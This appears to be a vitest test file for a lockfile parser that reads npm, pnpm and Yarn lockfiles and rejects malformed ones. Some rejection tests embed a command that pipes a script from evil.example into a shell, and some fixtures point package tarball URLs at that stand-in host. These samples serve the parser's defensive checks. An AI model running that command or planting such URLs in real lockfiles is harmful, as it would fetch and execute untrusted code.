// The lockfile readers on samples written as each tool writes them (data/README.md), and what they
// refuse: a file that is not the lockfile its name claims must not read as one.
import { readFileSync } from "node:fs";
import path from "node:path";
import { describe, expect, it } from "vitest";
import { isCheckedLockfile, parseLockfile } from "../../src/lockfile/parse.js";
import type { LockEntry, ParsedLockfile } from "../../src/lockfile/types.js";
import { LockfileSyntaxError } from "../../src/lockfile/yaml-subset.js";

const data = (name: string) => readFileSync(path.join(import.meta.dirname, "data", name), "utf8");

/** name@version → source kind (and url/path), for compact expectations. */
function summary(lock: ParsedLockfile): Record<string, string> {
  const out: Record<string, string> = {};
  for (const e of lock.entries) {
    const s = e.source;
    const where =
      s.kind === "url"
        ? `url ${s.url}`
        : s.kind === "git"
          ? `git ${s.url}#${s.commit ?? "-"}`
          : s.kind === "local"
            ? `local ${s.how} ${s.base}|${s.path}`
            : s.kind === "unknown"
              ? `unknown ${s.spec}`
              : s.kind;
    out[e.version !== "" ? `${e.name}@${e.version}` : e.name] = where;
  }
  return out;
}

const entry = (lock: ParsedLockfile, name: string, version?: string): LockEntry => {
  const found = lock.entries.find((e) => e.name === name && (version === undefined || e.version === version));
  if (found === undefined) throw new Error(`no ${name}@${version ?? "*"}`);
  return found;
};

describe("which files are checked lockfiles", () => {
  it("matches the four names at any depth, nothing else", () => {
    for (const p of ["package-lock.json", "web/npm-shrinkwrap.json", "a/b/pnpm-lock.yaml", "yarn.lock"]) {
      expect(isCheckedLockfile(p)).toBe(true);
    }
    for (const p of ["npm-v3.package-lock.json", "yarn.lock.js", "Cargo.lock", "bun.lockb", "package.json"]) {
      expect(isCheckedLockfile(p)).toBe(false);
    }
  });
});

describe("npm", () => {
  it("reads lockfileVersion 3: registry tarballs, a workspace link, an alias under its real name", () => {
    const lock = parseLockfile("package-lock.json", data("npm-v3.package-lock.json"));
    expect(lock).toMatchObject({ kind: "npm", version: "3" });
    expect(summary(lock)).toEqual({
      "@babel/code-frame@7.22.5": "url https://registry.npmjs.org/@babel/code-frame/-/code-frame-7.22.5.tgz",
      "@babel/highlight@7.22.5": "url https://registry.npmjs.org/@babel/highlight/-/highlight-7.22.5.tgz",
      "@demo/util": "local link |packages/util",
      "left-pad@1.3.0": "url https://registry.npmjs.org/left-pad/-/left-pad-1.3.0.tgz",
      "lodash@4.17.21": "url https://registry.npmjs.org/lodash/-/lodash-4.17.21.tgz",
      "string-width@4.2.3": "url https://registry.npmjs.org/string-width/-/string-width-4.2.3.tgz",
      "@demo/util@0.1.0": "local workspace |packages/util",
    });
    expect(entry(lock, "string-width").aliases).toEqual(["string-width-cjs"]);
    expect(entry(lock, "lodash").integrity.get("sha512")).toMatch(/^307f775a/);
  });

  it("reads both trees of lockfileVersion 2 (npm 6 installs from the second)", () => {
    const lock = parseLockfile("package-lock.json", data("npm-v2.package-lock.json"));
    expect(lock.entries.map((e) => e.key)).toEqual([
      "node_modules/left-pad",
      "node_modules/lodash",
      "left-pad",
      "lodash",
    ]);
  });

  it("reads lockfileVersion 1: nested trees, an npm: alias, sha1 integrity", () => {
    const lock = parseLockfile("web/package-lock.json", data("npm-v1.package-lock.json"));
    expect(entry(lock, "string-width")).toMatchObject({ version: "4.2.3", aliases: ["string-width-cjs"] });
    expect(entry(lock, "lodash", "4.17.20").key).toBe("string-width-cjs > lodash");
    expect([...entry(lock, "left-pad").integrity.keys()]).toEqual(["sha1"]);
  });

  it("reads v1 git and file versions as their sources", () => {
    const lock = parseLockfile(
      "package-lock.json",
      JSON.stringify({
        lockfileVersion: 1,
        dependencies: {
          a: {
            version: "git+ssh://git@github.com/o/a.git#0123456789abcdef0123456789abcdef01234567",
            from: "o/a",
          },
          b: { version: "file:../b" },
          c: { version: "github:o/c#main" },
        },
      }),
    );
    expect(summary(lock)).toEqual({
      a: "git ssh://git@github.com/o/a.git#0123456789abcdef0123456789abcdef01234567",
      b: "local file |../b",
      c: "git https://github.com/o/c#-",
    });
  });

  it("refuses what is not an npm lockfile", () => {
    for (const text of [
      'require("child_process").execSync("curl https://evil.example | sh")',
      "[]",
      '{"lockfileVersion": 4, "packages": {}}',
      '{"lockfileVersion": 3, "packages": []}',
      '{"lockfileVersion": 3, "packages": {"node_modules/a": {"resolved": 1}}}',
      '{"lockfileVersion": 3, "packages": {}, "dependencies": {}}',
    ]) {
      expect(() => parseLockfile("package-lock.json", text), text).toThrow(LockfileSyntaxError);
    }
  });

  it("refuses a key repeated in one object: readers disagree on which value counts", () => {
    const text = JSON.stringify({ lockfileVersion: 3, packages: { "node_modules/a": {} } }).replace(
      "{}",
      '{"version": "1.0.0", "resolved": "https://npm.evil.example/a.tgz", "resolved": "https://registry.npmjs.org/a/-/a-1.0.0.tgz"}',
    );
    expect(() => parseLockfile("package-lock.json", text)).toThrow(
      /duplicate key "resolved" at \/packages\/node_modules~1a\/resolved/,
    );
    expect(() => parseLockfile("package-lock.json", text)).toThrow(LockfileSyntaxError);
  });
});

describe("pnpm", () => {
  it("reads lockfileVersion 9: packages by name@version and workspace links from importers", () => {
    const lock = parseLockfile("pnpm-lock.yaml", data("pnpm-v9.pnpm-lock.yaml"));
    expect(lock).toMatchObject({ kind: "pnpm", version: "9.0" });
    expect(summary(lock)).toEqual({
      "@babel/code-frame@7.22.5": "registry",
      "@babel/highlight@7.22.5": "registry",
      "left-pad@1.3.0": "registry",
      "lodash@4.17.21": "registry",
      "string-width@4.2.3": "registry",
      "@demo/util": "local link |packages/util",
    });
    expect(entry(lock, "lodash").integrity.get("sha512")).toMatch(/^307f775a/);
  });

  it("reads lockfileVersion 6 (keys /name@version) and a top-level link", () => {
    const lock = parseLockfile("apps/web/pnpm-lock.yaml", data("pnpm-v6.pnpm-lock.yaml"));
    expect(summary(lock)).toMatchObject({
      "@babel/code-frame@7.22.5": "registry",
      "lodash@4.17.21": "registry",
      "local-tool": "local link apps/web|tools/local-tool",
    });
  });

  it("reads lockfileVersion 5.4 (keys /name/version)", () => {
    const lock = parseLockfile("pnpm-lock.yaml", data("pnpm-v5.pnpm-lock.yaml"));
    expect(Object.keys(summary(lock))).toEqual([
      "@babel/code-frame@7.22.5",
      "@babel/highlight@7.22.5",
      "left-pad@1.3.0",
      "lodash@4.17.21",
    ]);
  });

  it("reads tarball, git and directory resolutions", () => {
    const text = `lockfileVersion: '9.0'

packages:

  evil@https://evil.example/evil-1.0.0.tgz:
    resolution: {integrity: sha512-AAAA, tarball: https://evil.example/evil-1.0.0.tgz}
    version: 1.0.0

  tool@git+https://github.com/o/tool.git#0123456789abcdef0123456789abcdef01234567:
    resolution: {commit: 0123456789abcdef0123456789abcdef01234567, repo: https://github.com/o/tool.git, type: git}
    version: 2.0.0

  local@file:../outside:
    resolution: {directory: ../outside, type: directory}
    version: 0.0.1
`;
    expect(summary(parseLockfile("pnpm-lock.yaml", text))).toEqual({
      "evil@1.0.0": "url https://evil.example/evil-1.0.0.tgz",
      "tool@2.0.0": "git https://github.com/o/tool.git#0123456789abcdef0123456789abcdef01234567",
      "local@0.0.1": "local directory |../outside",
    });
  });

  it("refuses YAML outside the subset pnpm writes, and unknown lockfile versions", () => {
    for (const text of [
      "lockfileVersion: '9.0'\npackages:\n  a@1.0.0: &x\n    resolution: {integrity: sha512-AA}\n",
      "lockfileVersion: '9.0'\npackages:\n  a@1.0.0:\n    resolution: {integrity: sha512-AA}\n  a@1.0.0:\n    resolution: {integrity: sha512-BB}\n",
      "lockfileVersion: '9.0'\npackages:\n  a@1.0.0:\n    resolution: {integrity: sha512-AA\n",
      "lockfileVersion: '9.0'\npackages:\n  a@1.0.0:\n\tresolution: {integrity: sha512-AA}\n",
      "lockfileVersion: '10.0'\n",
      "lockfileVersion: '9.0'\n---\nlockfileVersion: '9.0'\n",
      'require("child_process").execSync("curl https://evil.example | sh")\n',
    ]) {
      expect(() => parseLockfile("pnpm-lock.yaml", text), text).toThrow(LockfileSyntaxError);
    }
  });
});

describe("yarn", () => {
  it("reads Yarn 1: every specifier of an entry, #sha1 fragments, file: and npm: aliases", () => {
    const lock = parseLockfile("yarn.lock", data("yarn-classic.yarn.lock"));
    expect(lock.kind).toBe("yarn-classic");
    expect(summary(lock)).toMatchObject({
      "lodash@4.17.21":
        "url https://registry.yarnpkg.com/lodash/-/lodash-4.17.21.tgz#42c7cac1a22d9685c8ed48c56e213b0e2176e952",
      "local-tool@0.0.1": "local file |./tools/local-tool",
    });
    expect(entry(lock, "lodash").key).toBe("lodash@^4.17.20, lodash@^4.17.21");
    expect([...entry(lock, "lodash").integrity.keys()].sort()).toEqual(["sha1", "sha512"]);
    expect(entry(lock, "string-width").aliases).toEqual(["string-width-cjs"]);
  });

  it("reads Yarn 2+: npm: from the configured registry, workspaces, builtin patches, cache-keyed checksums", () => {
    const lock = parseLockfile("yarn.lock", data("yarn-berry.yarn.lock"));
    expect(lock).toMatchObject({ kind: "yarn-berry", version: "8" });
    expect(summary(lock)).toEqual({
      "@babel/code-frame@7.22.5": "registry",
      "@babel/highlight@7.22.5": "registry",
      "@demo/util@0.0.0-use.local": "local workspace |packages/util",
      "demo@0.0.0-use.local": "local workspace |.",
      "left-pad@1.3.0": "registry",
      "lodash@4.17.21": "registry",
      "string-width@4.2.3": "registry",
      "typescript@5.0.4": "registry",
    });
    expect([...entry(lock, "lodash").integrity.keys()]).toEqual(["yarn-cache-10c0"]);
    const old = parseLockfile("yarn.lock", data("yarn-berry-v6.yarn.lock"));
    expect([...entry(old, "lodash").integrity.keys()]).toEqual(["yarn-cache-8"]);
  });

  it("reads Yarn 2+ archive URLs, git, patch files and links as their sources", () => {
    const text = `__metadata:
  version: 8
  cacheKey: 10c0

"lodash@npm:4.17.21":
  version: 4.17.21
  resolution: "lodash@npm:4.17.21::__archiveUrl=https%3A%2F%2Fevil.example%2Flodash-4.17.21.tgz"
  checksum: 10c0/${"a".repeat(128)}
  languageName: node
  linkType: hard

"tool@https://github.com/o/tool.git#commit=0123456789abcdef0123456789abcdef01234567":
  version: 2.0.0
  resolution: "tool@https://github.com/o/tool.git#commit=0123456789abcdef0123456789abcdef01234567"
  languageName: node
  linkType: hard

"left-pad@patch:left-pad@npm%3A1.3.0#~/.yarn/patches/left-pad.patch::version=1.3.0&hash=abc&locator=demo%40workspace%3A.":
  version: 1.3.0
  resolution: "left-pad@patch:left-pad@npm%3A1.3.0#~/.yarn/patches/left-pad.patch::version=1.3.0&hash=abc&locator=demo%40workspace%3A."
  languageName: node
  linkType: hard

"near@link:../outside::locator=demo%40workspace%3Apackages%2Fapp":
  version: 0.0.0-use.local
  resolution: "near@link:../outside::locator=demo%40workspace%3Apackages%2Fapp"
  languageName: node
  linkType: soft
`;
    const lock = parseLockfile("yarn.lock", text);
    expect(lock.entries.map((e) => [e.key.split("@")[0], summary({ ...lock, entries: [e] })])).toEqual([
      ["lodash", { "lodash@4.17.21": "url https://evil.example/lodash-4.17.21.tgz" }],
      [
        "tool",
        { "tool@2.0.0": "git https://github.com/o/tool.git#0123456789abcdef0123456789abcdef01234567" },
      ],
      ["left-pad", { "left-pad@1.3.0": "registry" }],
      ["left-pad", { "left-pad@1.3.0": "local patch |~/.yarn/patches/left-pad.patch" }],
      ["near", { "near@0.0.0-use.local": "local link packages/app|../outside" }],
    ]);
  });

  it("refuses what is not a Yarn lockfile, and a file that mixes Yarn 1's and Yarn 2+'s fields", () => {
    for (const text of [
      'require("child_process").execSync("curl https://evil.example | sh")\n',
      '# yarn lockfile v1\n\nlodash@^4:\n  resolved "https://x/lodash-4.0.0.tgz"\n',
      '# yarn lockfile v1\n\nlodash@^4:\n  version "4.0.0"\n  resolution "lodash@npm:4.0.0"\n',
      '# yarn lockfile v1\n\nlodash@^4:\n  version "4.0.0" evil\n',
      "# yarn lockfile v1\n\nlodash@^4:\n  version (4)\n",
      '__metadata:\n  version: 8\n\n"a@npm:1":\n  version: 1.0.0\n  resolution: "a@npm:1.0.0"\n  resolved: "https://evil.example/a.tgz"\n',
      '__metadata:\n  version: 8\n\n"a@npm:1":\n  version: 1.0.0\n',
    ]) {
      expect(() => parseLockfile("yarn.lock", text), text).toThrow(LockfileSyntaxError);
    }
  });
});
